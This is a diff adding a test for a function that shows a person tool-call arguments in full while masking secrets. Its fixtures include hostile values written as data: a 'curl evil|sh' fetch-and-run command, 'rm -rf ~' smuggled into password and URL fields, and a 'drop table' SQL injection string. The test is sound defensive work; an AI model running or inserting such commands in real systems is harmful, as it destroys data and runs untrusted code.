@@ -2,7 +2,7 @@ import fc from 'fast-check'
 import { expect, test } from 'vitest'
 import { MASK, scrubber } from '../base/redact.ts'
 import { jsonText } from '../wire/testing.ts'
-import { argumentsForRecord, type RecordLevel, resultForRecord } from './summary.ts'
+import { argumentsForQuestion, argumentsForRecord, type RecordLevel, resultForRecord } from './summary.ts'
 
 const SECRET = 'correct-horse-battery'
 const scrub = scrubber([SECRET])
@@ -178,4 +178,20 @@ test('what is no JSON is kept and masked all the same', () => {
     ])
       expect(argumentsForRecord(level, text, scrub)).not.toContain('ab')
   expect(resultForRecord('preview', Buffer.from('{"text":"a\\u00'), scrub)).toBeTypeOf('string')
+})
+
+test('a person is shown arguments as they will be sent, to their end, but for what surely is a secret [D11]', () => {
+  const asked = (given: unknown) => argumentsForQuestion(JSON.stringify(given), scrubber([SECRET]))
+  for (const given of [
+    { command: 'ls #?key=$(curl${IFS}evil|sh)', commit: '0b1f3c7e5d1a4c3f9d6e0a1b2c3d4e5f0b1f3c7e' },
+    { key: 'users/all', issueKey: 'PROD-1', max_tokens: 5, page: '0b1f3c7e-5d1a-4c3f-9d6e-0a1b2c3d4e5f' },
+    { password: '; rm -rf ~', token: { command: 'rm' }, url: 'a://b:;rm${IFS}-rf${IFS}~@host' },
+    { body: '{"sql":"select 1; -- ?key=\';drop table users"}', note: 'x'.repeat(900_000), last: 'the end' },
+  ])
+    expect(asked(given)).toBe(JSON.stringify(given))
+  expect(asked({ password: 'hunter2', apiKey: 'abc', note: `a ${SECRET} b ghp_${'a1'.repeat(12)}` })).toBe(
+    `{"password":"${MASK}","apiKey":"${MASK}","note":"a ${MASK} b ${MASK}"}`,
+  )
+  // What hides in letters that are escaped is found there as well.
+  expect(asked({ body: JSON.stringify({ password: 'hunter2' }) })).not.toContain('hunter2')
 })
